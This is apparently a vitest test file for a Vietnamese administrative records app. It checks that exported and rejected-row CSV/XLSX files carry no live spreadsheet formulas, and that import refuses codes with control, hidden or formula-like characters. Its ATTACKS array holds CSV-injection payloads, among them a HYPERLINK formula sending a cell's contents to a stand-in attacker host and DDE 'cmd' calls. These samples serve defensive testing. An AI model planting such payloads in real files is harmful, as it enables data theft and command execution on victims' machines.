import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { DatabaseHandle } from '../../src/db/open-database.js'
import { exportDossiers } from '../../src/modules/dossiers/export/export-dossiers.js'
import { importDossiers } from '../../src/modules/dossiers/import/import-dossiers.js'
import { importFeedback } from '../../src/modules/feedback/import-feedback.js'
import { importProcedures } from '../../src/modules/procedures/import-procedures.js'
import { importUnits } from '../../src/modules/units/import-units.js'
import { DOSSIER_HEADER, PROCEDURES_CSV, tempDir, UNITS_CSV, writeCsv } from '../support/files.js'
import { rejection } from '../support/rejection.js'
import { loadSmallDistrict } from '../support/small-district.js'
import { createTestDatabase } from '../support/test-database.js'

let handle: DatabaseHandle
const dir = tempDir()
const strict = { skipInvalid: false, ignoreUnknown: false }

beforeAll(async () => {
  handle = await createTestDatabase()
  await loadSmallDistrict(handle, [
    'AT-1,H23.07.01,1.001193,online,2022-09-05T08:00:00+07:00,,,,received,2,2,,0,,0,',
    'QT-1,H23.07.02,2.000815,direct,2022-09-06T08:00:00+07:00,,2022-09-06T15:00:00+07:00,,finished,1,1,true,2000,false,1,satisfied',
  ])
})
afterAll(async () => handle.close())

/** What a spreadsheet would run: a cell beginning with = + - @, tab or CR that is not a plain number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+([.,]\d+)?$/.test(cell)
const cellsOf = (path: string) => (parse(readFileSync(path, 'utf8'), { bom: true, relax_column_count: true }) as string[][]).flat()

const ATTACKS = ['=HYPERLINK("http://ke-gian.vn/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']

describe('files people open in a spreadsheet carry no formula', () => {
  it('the dossiers export: a code stored by an older version that begins like a formula is written as text', async () => {
    // Codes like this are refused at import today (below); older data may still hold them.
    await handle.db.updateTable('dossiers').set({ code: ATTACKS[0]! }).where('code', '=', 'AT-1').execute()
    try {
      const csv = join(dir, 'ho-so.csv')
      await exportDossiers(handle, csv)
      const cells = cellsOf(csv)
      expect(cells).toContain(`'${ATTACKS[0]}`)
      expect(cells.filter(runsAsFormula)).toEqual([])
      // XLSX holds it as a string cell, which no spreadsheet evaluates.
      const xlsx = join(dir, 'ho-so.xlsx')
      await exportDossiers(handle, xlsx)
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.readFile(xlsx)
      const cell = workbook.worksheets[0]!.getCell('A2').type === ExcelJS.ValueType.String ? workbook.worksheets[0]!.getCell('A2') : workbook.worksheets[0]!.getCell('A3')
      expect(cell.type).toBe(ExcelJS.ValueType.String)
    } finally {
      await handle.db.updateTable('dossiers').set({ code: 'AT-1' }).where('code', '=', ATTACKS[0]!).execute()
    }
  })

  it('the rejected rows of a feedback file: formulas in the cells are written as text, and the fixed file imports them back exactly', async () => {
    const header = 'code,unit_code,received_at,channel,summary'
    const rows = ATTACKS.map((attack, i) => `PA-X${i},H23.07.01,2022-09-05T08:00:00+07:00,bồ câu,"${attack.replaceAll('"', '""')}"`)
    const path = writeCsv(dir, 'phan-anh.csv', [header, ...rows])
    const summary = await importFeedback(handle, path, { skipInvalid: true, ignoreUnknown: false })
    expect(summary).toMatchObject({ rejected: ATTACKS.length, inserted: 0 })
    const rejected = summary.rejectedFile!
    expect(cellsOf(rejected).filter(runsAsFormula)).toEqual([])
    // The officer fixes the channel and imports the rejected file again.
    writeFileSync(rejected, readFileSync(rejected, 'utf8').replaceAll('bồ câu', 'trực tuyến'))
    expect(await importFeedback(handle, rejected, { skipInvalid: false, ignoreUnknown: true })).toMatchObject({ inserted: ATTACKS.length, rejected: 0 })
    const stored = await handle.db.selectFrom('feedback').select(['code', 'summary']).where('code', 'like', 'PA-X%').orderBy('code').execute()
    // Trimmed as every imported cell is; otherwise exactly what the first file said.
    expect(stored.map((f) => f.summary)).toEqual(ATTACKS.map((a) => a.trim()))
  })

  it('the rejected rows of a units file too', async () => {
    const path = writeCsv(dir, 'don-vi.csv', ['code,name,kind,parent_code', 'H23.07.03,"=HYPERLINK(""http://x"")",xóm,H23.07'])
    const summary = await importUnits(handle, path, { skipInvalid: true, ignoreUnknown: false })
    expect(summary.rejected).toBe(1)
    expect(cellsOf(summary.rejectedFile!)).toContain(`'=HYPERLINK("http://x")`)
  })

  it('legitimate files still go round: an export imports back unchanged', async () => {
    const before = await handle.db.selectFrom('dossiers').selectAll().orderBy('id').execute()
    for (const name of ['lai.csv', 'lai.xlsx']) {
      const path = join(dir, name)
      const count = await exportDossiers(handle, path)
      expect(await importDossiers(handle, path, strict)).toMatchObject({ inserted: 0, updated: 0, unchanged: count })
    }
    expect(await handle.db.selectFrom('dossiers').selectAll().orderBy('id').execute()).toEqual(before)
  })
})

describe('codes with control or hidden characters, or that begin like a formula, are refused at import', () => {
  const BAD_CODES = ['AT\u0000-9', 'AT\t-9', 'AT\u007f9', 'AT\u202e9-TA', '=1+1', '-AT-9', '@AT']

  async function expectRefused(importing: Promise<unknown>, column: string) {
    const error = await rejection(importing)
    expect(error.details[0]).toMatchObject({ line: 2, column, reason: expect.stringMatching(/^mã không được (chứa ký tự điều khiển hoặc ký tự ẩn \(U\+[0-9A-F]{4} ở vị trí \d+\)|bắt đầu bằng)/) })
    expect(error.details[0]!.value).not.toMatch(/[\u0000-\u001f\u007f\u202e]/)
    expect(error.userMessage).toMatch(/dòng 2, cột /)
  }
  const count = async (table: 'units' | 'procedures' | 'dossiers' | 'feedback') => (await handle.db.selectFrom(table).select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n

  it.each(BAD_CODES)('%j in units.csv (code, parent_code), procedures.csv, dossiers.csv (code, unit_code, procedure_code) and feedback.csv (code, unit_code, procedure_code, dossier_code)', async (bad) => {
    const cell = `"${bad}"`
    const before = { units: await count('units'), procedures: await count('procedures'), dossiers: await count('dossiers'), feedback: await count('feedback') }
    await expectRefused(importUnits(handle, writeCsv(dir, 'u.csv', [UNITS_CSV[0]!, `${cell},Xã Mới,commune,H23.07`]), strict), 'code')
    await expectRefused(importUnits(handle, writeCsv(dir, 'u.csv', [UNITS_CSV[0]!, `H23.07.09,Xã Mới,commune,${cell}`]), strict), 'parent_code')
    await expectRefused(importProcedures(handle, writeCsv(dir, 'p.csv', [PROCEDURES_CSV[0]!, `${cell},Thủ tục mới,Hộ tịch,commune,full,0,0,`]), strict), 'code')
    const dossier = (code: string, unit: string, procedure: string) => writeCsv(dir, 'd.csv', [DOSSIER_HEADER, `${code},${unit},${procedure},online,2022-09-05T08:00:00+07:00,,,,received,2,2,,0,,0,`])
    await expectRefused(importDossiers(handle, dossier(cell, 'H23.07.01', '1.001193'), strict), 'code')
    await expectRefused(importDossiers(handle, dossier('AT-9', cell, '1.001193'), strict), 'unit_code')
    await expectRefused(importDossiers(handle, dossier('AT-9', 'H23.07.01', cell), strict), 'procedure_code')
    const feedback = (code: string, unit: string, procedure: string, dossierCode: string) =>
      writeCsv(dir, 'f.csv', ['code,unit_code,received_at,channel,summary,procedure_code,dossier_code', `${code},${unit},2022-09-05T08:00:00+07:00,trực tuyến,Chậm,${procedure},${dossierCode}`])
    await expectRefused(importFeedback(handle, feedback(cell, 'H23.07.01', '', ''), strict), 'code')
    await expectRefused(importFeedback(handle, feedback('PA-9', cell, '', ''), strict), 'unit_code')
    await expectRefused(importFeedback(handle, feedback('PA-9', 'H23.07.01', cell, ''), strict), 'procedure_code')
    await expectRefused(importFeedback(handle, feedback('PA-9', 'H23.07.01', '', cell), strict), 'dossier_code')
    expect({ units: await count('units'), procedures: await count('procedures'), dossiers: await count('dossiers'), feedback: await count('feedback') }).toEqual(before)
  })
})
